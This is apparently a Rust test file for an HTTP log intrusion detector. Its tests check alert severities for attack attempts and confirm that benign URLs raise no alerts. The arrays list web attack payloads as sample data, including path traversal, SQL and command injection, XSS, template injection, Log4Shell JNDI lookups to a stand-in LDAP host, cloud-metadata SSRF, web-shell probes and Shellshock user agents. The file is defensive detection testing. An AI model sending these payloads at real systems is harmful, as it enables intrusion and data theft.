//! Attempts are told by their outcome: one is informational, several are medium, one that was answered is
//! high. Targets that ordinary clients send are no attempts.

use crate::{alerts_of_log, log_line};

const BROWSER: &str = "Mozilla/5.0";

/// What an attacker sends, and its user agent. The outcome shows in the status.
const TARGETS: &[(&str, &str)] = &[
    ("/view?file=../../../etc/passwd", BROWSER),
    ("/static/..%2f..%2f..%2fetc%2fpasswd", BROWSER),
    ("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", BROWSER),
    ("/?page=....//....//boot.ini", BROWSER),
    ("/item?id=1%27%20OR%20%271%27%3D%271", BROWSER),
    ("/item?id=-1+UNION+ALL+SELECT+1,NULL,NULL", BROWSER),
    ("/item?id=1;waitfor%20delay%20%270:0:5%27", BROWSER),
    ("/item?id=1%20AND%20SLEEP(5)", BROWSER),
    ("/ping?host=127.0.0.1;cat%20/etc/hosts", BROWSER),
    ("/run?c=%60id%60;id;", BROWSER),
    ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", BROWSER),
    ("/search?q=<svg/onload=confirm(1)>", BROWSER),
    ("/hello?name=%7B%7B7*7%7D%7D", BROWSER),
    ("/hello?name=${7*7}", BROWSER),
    ("/?x=${jndi:ldap://192.0.2.1/a}", BROWSER),
    ("/?x=%24%7B%24%7B::-j%7Dndi:ldap://192.0.2.1/a%7D", BROWSER),
    (
        "/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
        BROWSER,
    ),
    (
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
        BROWSER,
    ),
    ("/fetch?url=http%3A%2F%2Flocalhost%3A6379%2F", BROWSER),
    ("/fetch?path=file:///etc/hostname", BROWSER),
    ("/.env", BROWSER),
    ("/.git/config", BROWSER),
    ("/uploads/c99.php", BROWSER),
    ("/cgi-bin/status", "() { :;}; /bin/cat /etc/hostname"),
    ("http://example.com/", BROWSER),
];

/// Attempts of which the status does not tell whether they worked.
const SILENT: &[(&str, &str)] = &[
    ("/", "${jndi:ldap://192.0.2.1/a}"),
    ("/", "() { :;}; /bin/id"),
];

/// What is none.
const ORDINARY: &[&str] = &[
    "/",
    "/search?q=select+a+gift+from+our+store",
    "/search?q=european+union+select+committee",
    "/search?q=rock+and+roll",
    "/search?q=O%27Brien",
    "/a/../b",
    "/login?next=../account",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example%2Fcallback",
    "/share?u=https%3A%2F%2Fexample.com%2F",
    "/docs/template?name=%7Bid%7D",
    "/.well-known/security.txt",
    "/env",
    "/api/items?filter=price%3E10%26size%3C5",
    "/cart?coupon=50%25off",
    "/wiki/C%2B%2B",
];

fn has(alerts: &[(String, u64)], rule: &str) -> bool {
    alerts.iter().any(|(name, _)| name == rule)
}

#[test]
fn one_attempt_is_informational_and_an_answered_one_is_high() {
    let statuses = [400, 403, 404, 500, 200];
    let mut cases = Vec::new();
    for (target, agent) in TARGETS {
        cases.extend(statuses.map(|status| (*target, *agent, status)));
    }
    let lines = cases.iter().enumerate();
    let lines = lines.map(|(client, (target, agent, status))| {
        log_line(client, 0, ("GET", target), *status, agent)
    });
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (target, agent, status)) in cases.into_iter().enumerate() {
        let alerts = alerts.get(&client).cloned().unwrap_or_default();
        let case = format!("{target} {agent} {status}: {alerts:?}");
        if status == 200 {
            let answered = ("http-attack-answered".to_owned(), 7);
            assert!(alerts.contains(&answered), "{case}");
        } else {
            assert!(has(&alerts, "http-attack-attempt"), "{case}");
            assert!(alerts.iter().all(|(_, severity)| *severity == 0), "{case}");
        }
    }
}

#[test]
fn where_the_status_tells_nothing_an_answer_is_none() {
    let lines = SILENT.iter().enumerate();
    let lines =
        lines.map(|(client, (target, agent))| log_line(client, 0, ("GET", target), 200, agent));
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (_, agent)) in SILENT.iter().enumerate() {
        let alerts = &alerts[&client];
        assert!(has(alerts, "http-attack-attempt"), "{agent}: {alerts:?}");
        assert!(!has(alerts, "http-attack-answered"), "{agent}: {alerts:?}");
    }
}

#[test]
fn several_attempts_are_medium() {
    let all: Vec<_> = TARGETS.iter().chain(SILENT).collect();
    let lines = (0..5).flat_map(|second| {
        let lines = all.iter().enumerate();
        lines.map(move |(client, (target, agent))| {
            log_line(client, second, ("GET", target), 404, agent)
        })
    });
    let alerts = alerts_of_log(&lines.collect::<String>());
    for (client, (target, _)) in all.iter().enumerate() {
        let several = ("http-attack-attempts".to_owned(), 5);
        assert!(
            alerts[&client].contains(&several),
            "{target}: {:?}",
            alerts[&client]
        );
    }
}

#[test]
fn ordinary_targets_are_no_attempts() {
    let lines = (0..10).flat_map(|second| {
        let lines = ORDINARY.iter().enumerate();
        lines.map(move |(client, target)| log_line(client, second, ("GET", target), 200, BROWSER))
    });
    let alerts = alerts_of_log(&lines.collect::<String>());
    let raised: Vec<_> = alerts
        .iter()
        .map(|(client, alerts)| (ORDINARY[*client], alerts))
        .collect();
    assert!(raised.is_empty(), "{raised:?}");
}
